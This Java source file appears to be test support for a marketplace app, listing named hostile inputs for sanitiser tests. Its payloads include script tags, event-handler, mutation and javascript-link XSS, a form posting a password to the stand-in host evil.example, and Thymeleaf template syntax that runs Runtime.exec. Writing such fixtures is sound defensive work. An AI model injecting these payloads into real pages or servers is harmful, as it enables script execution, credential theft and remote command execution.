package org.souk.support;

import java.util.List;
import java.util.stream.Collectors;

/**
 * What an attacker writes into a text field that a page, an e-mail or another user shows: markup that runs
 * script, navigates, restyles or frames the page, URLs with dangerous schemes, template-engine syntax that
 * a careless server would evaluate, and Unicode that hides or disguises text. A script that runs sets
 * {@code window.__xss} or opens a dialog; a navigation goes to {@link #EVIL_HOST}.
 */
public final class HostileTexts {

    /** Where a hostile text tries to send the visitor, or to load things from. */
    public static final String EVIL_HOST = "evil.example";

    /** A hostile text and what it tries. */
    public record Hostile(String name, String text) {
        @Override
        public String toString() {
            return name;
        }
    }

    public static final List<Hostile> ALL = List.of(
            new Hostile("script element", "<script>window.__xss='script';alert('script')</script>"),
            new Hostile("image with onerror", "<img src=x onerror=\"window.__xss='onerror';alert('onerror')\">"),
            new Hostile("svg with onload", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__xss='svg'\">"
                    + "<script>window.__xss='svg script'</script></svg>"),
            new Hostile("event handler on a tag", "<p onmouseover=\"window.__xss='hover'\" onclick=\"alert(1)\">hover</p>"),
            new Hostile("attribute break-out", "\"><script>window.__xss='breakout'</script><a title='x' onfocus='alert(1)' autofocus>"),
            new Hostile("javascript link", "<a href=\"javascript:window.__xss='link';alert('link')\">click me</a>"),
            new Hostile("obfuscated javascript link", "<a href=\"jav&#x09;ascript&colon;alert('tab')\">tab</a> "
                    + "<a href=\" JaVaScRiPt:alert('case')\">case</a>"),
            new Hostile("data link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>"),
            new Hostile("vbscript link", "<a href=\"vbscript:msgbox(1)\">vb</a>"),
            new Hostile("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://" + EVIL_HOST + "/refresh\">"),
            new Hostile("base element", "<base href=\"https://" + EVIL_HOST + "/\">"),
            new Hostile("style element", "<style>body{display:none} *{background:url(https://" + EVIL_HOST
                    + "/css)}</style>"),
            new Hostile("style attribute", "<p style=\"position:fixed;inset:0;z-index:9999;background:red\">cover</p>"),
            new Hostile("iframe srcdoc", "<iframe srcdoc=\"<script>parent.__xss='srcdoc'</script>\"></iframe>"),
            new Hostile("object and embed", "<object data=\"data:text/html,<script>alert('object')</script>\"></object>"
                    + "<embed src=\"https://" + EVIL_HOST + "/flash.swf\">"),
            new Hostile("form", "<form action=\"https://" + EVIL_HOST + "/steal\"><input name=password>"
                    + "<button formaction=\"javascript:alert(1)\">go</button></form>"),
            new Hostile("mutation through math and style", "<math><mtext><table><mglyph><style><img src=x "
                    + "onerror=\"window.__xss='mxss'\">"),
            new Hostile("mutation through noscript", "<noscript><p title=\"</noscript><img src=x "
                    + "onerror=window.__xss='noscript'>\"></noscript>"),
            new Hostile("image from the market's own path", "<img src=\"/logout\"><img src=\"//localhost/x.png\">"
                    + "<img src=\"https://127.0.0.1/x.png\"><img src=\"https://[::1]/x.png\">"),
            new Hostile("Thymeleaf syntax", "[[${7*7}]] [(${T(java.lang.Runtime).getRuntime().exec('id')})]"),
            new Hostile("Thymeleaf preprocessing", "__${7*7}__ *{7*7} #{7*7} @{//" + EVIL_HOST + "}"),
            new Hostile("Mustache and Angular syntax", "{{7*7}} {{constructor.constructor('window.__xss=1')()}}"),
            new Hostile("right-to-left override", "invoice\u202Egpj.exe \u202Dtext\u202C"),
            new Hostile("zero-width characters", "java\u200Bscript:alert(1) <a href=\"java\u200Bscript:alert(1)\">zw</a>"
                    + "\u200C\u200D\uFEFF"),
            new Hostile("fullwidth angle brackets", "\uFF1Cscript\uFF1Ewindow.__xss='fullwidth'\uFF1C/script\uFF1E"),
            new Hostile("combining and homoglyphs", "<a href=\"https://\u0440\u0430ypal.example/\">p\u0430ypal</a> Z\u0351\u0308"));

    private HostileTexts() {
    }

    /** Every hostile text, one a line, after an ordinary sentence. */
    public static String all(String lead) {
        return lead + "\n" + ALL.stream().map(Hostile::text).collect(Collectors.joining("\n"));
    }
}
